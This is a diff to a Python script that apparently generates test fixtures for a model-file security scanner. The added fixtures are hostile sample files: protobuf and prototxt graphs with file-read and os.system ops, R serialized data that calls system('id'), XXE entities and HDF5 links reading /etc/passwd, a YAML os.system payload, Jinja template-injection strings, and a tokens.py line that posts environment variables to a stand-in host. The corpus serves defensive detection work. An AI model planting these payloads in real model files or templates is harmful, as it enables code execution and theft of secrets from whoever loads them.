@@ -251,6 +251,83 @@ def formats():
     write("model.skops", skops.getvalue())
 
 
+def varint(number):
+    out = bytearray()
+    while number > 127:
+        out.append(number & 127 | 128)
+        number >>= 7
+    return bytes(out) + bytes([number])
+
+
+def field(number, body):
+    """A field of a protocol buffer."""
+    return varint(number << 3 | 2) + varint(len(body)) + body
+
+
+def further_formats():
+    graph = field(1, field(1, b"n") + field(2, b"ReadFile"))
+    library = field(2, field(1, field(1, field(1, b"f")) + field(3, field(1, b"n") + field(2, b"PyFunc"))))
+    # Readers of protocol buffers do not mind a missing version or another order.
+    write("unversioned.saved_model.pb", field(2, field(2, graph)))
+    write("info.meta", field(1, field(5, b"2.21.0")) + field(2, graph))
+    write("library.pb", library)
+    write("graph.pbtxt", 'node { name: "n" op: "WriteFile" }')
+    write("net.prototxt", 'layer { name: "x" type: "Python"\n python_param { module: "os" layer: "system" } }')
+    block = b"\x08\0\x10\0" + field(3, field(1, b"v")) + field(4, field(3, b"py_func"))
+    write("model.pdmodel", field(1, block))
+    write("broken.mlmodel", b"\x08\x04" + field(2, b"") + varint(500 << 3 | 2) + b"\xff\x7f")
+    number = lambda value: struct.pack(">I", value)  # noqa: E731
+    chars = lambda value: number(9) + number(len(value)) + value  # noqa: E731
+    call = number(6) + number(1) + chars(b"system") + number(2) + number(16) + number(1) + chars(b"id") + number(254)
+    r_head = b"X\n" + number(3) + number(0x40301) + number(0x30500) + number(5) + b"UTF-8"
+    promise = r_head + number(5) + number(252) + call
+    write("promise.rds", gzip.compress(promise))
+    write("promise.RData", b"RDX3\n" + promise)
+    write("closure.rds", r_head + number(0x403) + number(253) + number(254) + call)
+    write("symbols.rds", r_head + number(1) * 100_000)
+    write("text.rds", b"A\n3\n263169\n")
+    write("nested.msgpack", b"\x81\xa4data\xc4" + bytes([len(PAYLOAD)]) + PAYLOAD)
+    write("lengths.msgpack", b"\x81\xa1a\xdd\xff\xff\xff\xff\x01")
+    write("program.pte", number(0xF0FFFFFF) + b"ET12" + bytes(40))
+    for kind, options in (("old", {}), ("new", {"libver": "latest"})):
+        with h5py.File(folder / f"storage-{kind}.h5", "w", **options) as file:
+            file.create_dataset("d", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])
+    # A file that is sound safetensors, under a name whose loaders unpickle.
+    sound = b"\x02\0\0\0\0\0\0\0{}"
+    for name in ("sound.pkl", "sound.bin", "sound.ckpt"):
+        write(name, sound)
+    for name in ("noise.onnx", "noise.gguf", "noise.safetensors", "noise.h5", "noise.npy", "noise.tflite"):
+        write(name, b"\xfe noise \xff" * 50)
+
+
+def texts():
+    write("declared.py", "# -*- coding: latin-1 -*-\nx = 'é'\nimport os\nos.system('id')\n".encode("latin-1"))
+    write("utf7.py", b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n")
+    write("escaped.py", b"# coding: raw_unicode_escape\n\\u0069mport os\n")
+    write("nul.py", b"import os\nos.system('id')\n\0")
+    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>'
+    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "latin-1"):
+        write(f"{encoding}.pmml", entity.encode(encoding))
+    foreign = '{"a": %s, "auto_map": {"AutoModel": "someone/else--model.Net"}}'
+    for name, value in {"surrogate": r'"\ud800"', "number": "1e999", "nan": "[NaN, -Infinity]"}.items():
+        write(f"{name}.config.json", foreign % value)
+    write("wide.json", (foreign % 1).encode("utf-16"))
+    write("deep.json", "[" * 100_000)
+    write("latin.yaml", b"# \xe9\na: !!python/object/apply:os.system [id]")
+    write("template.yaml", "chat_template: \"{{ ''.__class__ }}\"\n")
+    write("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n")
+    write("tokens.py", "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))\n")
+    for name, template in {
+        "getattr": "{{ getattr(x, name) }}", "get": "{{ x.get('__globals__') }}",
+        "concatenated": "{{ ''['__cla' ~ 'ss__'] }}", "escaped": r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
+        "filter": "{{ x | attr('__class__') }}", "reversed": "{{ x | attr('__ssalc__' | reverse) }}",
+        "global": "{{ lipsum.__globals__ }}", "format": "{{ '{0.__class__}'.format(x) }}",
+        "endless": "{% for i in range(999999999) %}{% endfor %}", "include": "{% include 'other' %}",
+    }.items():
+        write(f"{name}.jinja", template)
+        write(f"{name}.tokenizer_config.json", json.dumps({"chat_template": template}))
+
+
 class Stand:
     """Whatever is imported: it can be called, built and changed, and does nothing."""
 
@@ -323,4 +400,6 @@ def mutations():
 pickles()
 containers()
 formats()
+further_formats()
+texts()
 mutations()
